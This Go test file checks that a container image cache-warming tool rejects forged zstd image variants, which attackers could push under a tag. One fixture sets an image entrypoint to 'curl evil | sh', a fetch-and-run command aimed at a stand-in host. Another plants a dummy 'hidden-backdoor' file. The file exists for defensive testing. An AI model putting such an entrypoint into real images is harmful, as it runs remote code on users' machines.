package warm_test

import (
	"context"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/kiln-build/kiln/internal/testkit"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/types"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"github.com/kiln-build/kiln/internal/testimage"
	"github.com/kiln-build/kiln/layers"
	"github.com/kiln-build/kiln/warm"
	"github.com/kiln-build/kiln/warm/internal/warmtest"
	"github.com/kiln-build/kiln/warm/ocilayout"
)

// withConfig is layers under cfg (the named image's config): what an
// attacker who can push a tag puts at REPO:TAG-zstd (N1).
func withConfig(t *testing.T, cfg *v1.ConfigFile, ls ...v1.Layer) v1.Image {
	t.Helper()
	img := mutate.ConfigMediaType(mutate.MediaType(empty.Image, types.OCIManifestSchema1), types.OCIConfigJSON)
	for _, l := range ls {
		var err error
		if img, err = mutate.AppendLayers(img, l); err != nil {
			t.Fatal(err)
		}
	}
	img, err := mutate.ConfigFile(img, cfg)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

// falseVariant is TAG's config over other zstd layers (a hidden file, a
// changed one): what an attacker who can push a tag puts at REPO:TAG-zstd.
func falseVariant(t *testing.T, img v1.Image) v1.Image {
	t.Helper()
	cfg, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	return withConfig(t, cfg,
		testimage.Layer(t, []testimage.Entry{testimage.File("usr/bin/hidden-backdoor", []byte("#!/bin/sh\necho owned\n"))}, "zstd"),
		testimage.Layer(t, []testimage.Entry{testimage.File("etc/visible", []byte("changed"))}, "zstd"))
}

// N1: a REPO:TAG-zstd that reuses TAG's config (byte for byte) over other
// zstd layers passes every check that reads configs only. Its layers are
// proven as they are warmed: the first whose content is not the config's
// diff ID sets the variant aside, and TAG is warmed as named, READY, with
// a note. The target's record of TAG is TAG's own image.
func TestWarmSetsAsideVariantOverOtherLayers(t *testing.T) {
	ctx := context.Background()
	f := warmtest.PushFixture(t, false)
	evil := falseVariant(t, f.Img)
	want, _ := f.Img.ConfigName()
	if got, _ := evil.ConfigName(); got != want {
		t.Fatalf("the attack needs TAG's config: got %s, want %s", got, want)
	}
	testimage.Push(t, f.Ref+layers.ZstdTagSuffix, evil)

	dir := filepath.Join(t.TempDir(), "oci")
	tgt, err := ocilayout.New(dir)
	if err != nil {
		t.Fatal(err)
	}
	var logged []string
	rep, err := warm.Run(ctx, warm.RunOptions{
		Target: tgt, Refs: testkit.Refs(t, f.Ref),
		Resolve: warm.ResolveOptions{Platform: warmtest.AMD64, Blobs: warmtest.FastSource()},
		Options: warm.Options{Log: func(format string, a ...any) { logged = append(logged, format) }},
	})
	if err != nil || !rep.Ready {
		t.Fatalf("ready=%v err=%v", rep != nil && rep.Ready, err)
	}
	im := rep.Images[0]
	if im.Source != "" && im.Source != im.Ref || !strings.Contains(im.Note, "not the zstd form") || !strings.Contains(im.Note, "warmed "+f.Ref+" as named") {
		t.Fatalf("report image %+v: want TAG as named, with a note", im)
	}
	// The record of TAG is TAG's own image (its platform manifest), not
	// the variant.
	var idx ocispec.Index
	raw, err := os.ReadFile(filepath.Join(dir, "index.json"))
	if err != nil || json.Unmarshal(raw, &idx) != nil {
		t.Fatal(err)
	}
	named := warmtest.Resolve(t, ctx, warmtest.FastSource(), warm.ResolveOptions{Compression: warm.CompressionGzip}, f.Ref)
	for _, m := range idx.Manifests {
		if m.Annotations[ocispec.AnnotationRefName] != "" && m.Digest != named.Images[0].Manifest.Digest {
			t.Errorf("index.json records %s at %s, want TAG's %s", m.Annotations[ocispec.AnnotationRefName], m.Digest, named.Images[0].Manifest.Digest)
		}
	}
	if len(idx.Manifests) == 0 {
		t.Fatal("nothing recorded")
	}

	// Asked for zstd: the warm fails, naming the variant, and records nothing.
	dir2 := filepath.Join(t.TempDir(), "oci")
	tgt2, _ := ocilayout.New(dir2)
	_, err = warm.Run(ctx, warm.RunOptions{
		Target: tgt2, Refs: testkit.Refs(t, f.Ref),
		Resolve: warm.ResolveOptions{Platform: warmtest.AMD64, Blobs: warmtest.FastSource(), Compression: warm.CompressionZstd},
	})
	if err == nil || !strings.Contains(err.Error(), "not the zstd form") {
		t.Fatalf("--compression zstd over a false variant: err = %v", err)
	}
	if raw, _ := os.ReadFile(filepath.Join(dir2, "index.json")); strings.Contains(string(raw), f.Ref) {
		t.Fatalf("a failed warm recorded the image: %s", raw)
	}
}

// N1, second form: a new config with TAG's diff IDs but another
// entrypoint is not TAG in zstd, whatever its layers hold.
func TestResolveRefusesVariantWithOtherConfig(t *testing.T) {
	ctx := context.Background()
	f := warmtest.PushFixture(t, false)
	cfg, err := f.Img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	cfg = cfg.DeepCopy()
	cfg.Config.Entrypoint = []string{"/bin/sh", "-c", "curl evil | sh"}
	ls, _ := f.Img.Layers()
	var zl []v1.Layer
	for range ls {
		zl = append(zl, testimage.Layer(t, []testimage.Entry{testimage.File("etc/x", []byte("x"))}, "zstd"))
	}
	testimage.Push(t, f.Ref+layers.ZstdTagSuffix, withConfig(t, cfg, zl...))
	s := warmtest.Resolve(t, ctx, warmtest.FastSource(), warm.ResolveOptions{}, f.Ref)
	if img := s.Images[0]; img.Variant() || img.Zstd || !strings.Contains(img.Note, "config differs") {
		t.Fatalf("variant with another entrypoint: %+v", img)
	}
}

// noReadBack is a target that cannot read a committed blob back.
type noReadBack struct{ warm.Store }

// countOpens counts the layers read back from an OCI layout.
type countOpens struct {
	*ocilayout.OCILayout
	layers atomic.Int64
}

func (c *countOpens) Open(d ocispec.Descriptor) (io.ReadCloser, error) {
	if strings.Contains(d.MediaType, "layer") {
		c.layers.Add(1)
	}
	return c.OCILayout.Open(d)
}

// The check of a layer's content follows its bytes as they are fetched:
// no layer is read back from the target after its commit, and a target
// that could not read it back at all (which was trusted before) proves a
// variant all the same.
func TestWarmChecksLayersAsTheyArrive(t *testing.T) {
	ctx := context.Background()
	f := warmtest.PushFixture(t, false)
	testimage.Push(t, f.Ref+layers.ZstdTagSuffix, falseVariant(t, f.Img))

	layout := func() *ocilayout.OCILayout {
		l, err := ocilayout.New(filepath.Join(t.TempDir(), "oci"))
		if err != nil {
			t.Fatal(err)
		}
		return l
	}
	counted := &countOpens{OCILayout: layout()}
	for _, tgt := range []warm.Store{counted, noReadBack{layout()}} {
		rep, err := warm.Run(ctx, warm.RunOptions{
			Target: tgt, Refs: testkit.Refs(t, f.Ref),
			Resolve: warm.ResolveOptions{Platform: warmtest.AMD64, Blobs: warmtest.FastSource(), Compression: warm.CompressionZstd},
		})
		if err == nil || !strings.Contains(err.Error(), "not the zstd form") {
			t.Fatalf("%T: --compression zstd over a false variant: err = %v", tgt, err)
		}
		if rep.FetchedBytes == 0 {
			t.Fatalf("%T: nothing fetched", tgt)
		}
	}
	if n := counted.layers.Load(); n != 0 {
		t.Errorf("%d layer(s) read back after their commit; the check follows the fetch", n)
	}
}
